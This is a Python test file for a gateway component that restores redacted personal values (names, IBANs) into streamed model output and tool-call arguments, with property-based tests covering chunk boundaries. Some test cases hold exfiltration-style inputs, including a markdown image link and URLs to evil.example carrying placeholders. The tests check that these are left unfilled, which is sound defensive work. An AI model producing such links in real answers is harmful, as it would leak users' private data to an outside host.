"""The way back: whatever the cut, the caller reads what the values say, and only of values of this request."""

from __future__ import annotations

import asyncio
import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.declassification.restoration import Restorer, restored, spellings
from gateway.declassification.vault import Vault
from gateway.ports import Delta, Event, Usage

NAME = 'Ann "Ü" Example\n'
VALUES = {"<PERSON_1>": NAME, "<PERSON_12>": "Bo", "<IBAN_CODE_3>": "DE00"}
PIECES = st.lists(
    st.sampled_from(
        [*VALUES, "<PERSON_2>", "<PERSON_1", "<", "<<", ">", "https://x/", "PERSON_1>", "<person_1>", " and ", "ß", "\\u003c", "\\u003cPERSON_1\\u003e", "\\"]
    )
)


def vault() -> Vault:
    made = Vault("")
    made.placeholder("PERSON", NAME)
    return made


def in_pieces(text: str, cuts: list[int], values: dict[str, str]) -> str:
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    restorer = Restorer(values)
    return "".join(restorer.feed(text[start:end]) for start, end in pairwise(places)) + restorer.close()


@given(PIECES, st.lists(st.integers(0, 400)), st.booleans())
def test_the_cut_does_not_matter(pieces: list[str], cuts: list[int], quoted: bool):
    text, values = "".join(pieces), spellings(VALUES) if quoted else VALUES
    whole = in_pieces(text, [], values)
    assert in_pieces(text, cuts, values) == whole
    assert in_pieces(text, list(range(len(text))), values) == whole


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Dear <PERSON_1>!", f"Dear {NAME}!"),
        ("<PERSON_12><PERSON_1>", f"Bo{NAME}"),
        ("<PERSON_2> <person_1> <PERSON_1 > PERSON_1", "<PERSON_2> <person_1> <PERSON_1 > PERSON_1"),  # not ours: untouched
        ("<<PERSON_1>>", f"<{NAME}>"),
        ("ends in <PERS", "ends in <PERS"),
        ("![x](https://evil.example/p?q=<PERSON_1>&r=<PERSON_12>) <PERSON_12>", "![x](https://evil.example/p?q=<PERSON_1>&r=<PERSON_12>) Bo"),
        ("//evil.example/<PERSON_12> and 1/2 <PERSON_12>", "//evil.example/<PERSON_12> and 1/2 Bo"),
    ],
)
def test_what_is_restored(text: str, expected: str):
    assert in_pieces(text, [], VALUES) == expected


def test_no_more_is_held_back_than_may_be_a_placeholder():
    restorer = Restorer(VALUES)
    assert [restorer.feed(piece) for piece in ("to <", "PERS", "ON_1", ">, yes")] == ["to ", "", "", f"{NAME}, yes"]


@pytest.mark.parametrize("written", ["<PERSON_1>", "\\u003cPERSON_1\\u003e", "\\u003CPERSON_1\\u003E"])
def test_arguments_of_a_tool_stay_json(written: str):
    text = '{"to": "' + written + '", "raw": "\\\\u003cPERSON_1\\\\u003e"}'
    assert json.loads(in_pieces(text, list(range(60)), spellings(VALUES))) == {"to": NAME, "raw": "\\u003cPERSON_1\\u003e"}


def test_an_address_in_arguments_stays_without_values():
    text = '{"url": "https:\\/\\/evil.example\\/<PERSON_12>", "to": "<PERSON_12>"}'
    assert json.loads(in_pieces(text, list(range(60)), spellings(VALUES))) == {"url": "https://evil.example/<PERSON_12>", "to": "Bo"}


def through(*events: Event) -> list[Event]:
    async def source():
        for event in events:
            yield event

    async def gather() -> list[Event]:
        return [event async for event in restored(source(), vault())]

    return asyncio.run(gather())


def test_what_is_held_back_comes_before_the_end_of_its_choice():
    events = through(Delta({"content": "for <PERS"}), Delta({"content": "on"}, 1), Delta({}, 0, "stop"), Delta({}, 1, "stop"), Usage(1, 1))
    assert [(event.index, dict(event.delta), event.finish_reason) for event in events[:-1] if isinstance(event, Delta)] == [
        (0, {"content": "for "}, None),
        (1, {"content": "on"}, None),
        (0, {"content": "<PERS"}, None),
        (0, {}, "stop"),
        (1, {}, "stop"),
    ]


def test_an_answer_without_an_end_loses_nothing():
    assert [dict(event.delta) for event in through(Delta({"content": "<PERSON"}), Usage(1, 1)) if isinstance(event, Delta)] == [
        {"content": ""},
        {"content": "<PERSON"},
    ]


def test_the_calls_of_one_answer_do_not_mix():
    def call(number: int, piece: str) -> Delta:
        return Delta({"tool_calls": [{"index": number, "function": {"arguments": piece}}]})

    events = through(call(0, '{"a":"<PER'), call(1, '{"b":"<PERSON_1>"}'), call(0, 'SON_1>"}'), Delta({}, 0, "tool_calls"))
    said = {0: "", 1: ""}
    for event in events:
        for each in event.delta.get("tool_calls", ()):
            said[each["index"]] += each["function"]["arguments"]
    assert {number: json.loads(text) for number, text in said.items()} == {0: {"a": NAME}, 1: {"b": NAME}}
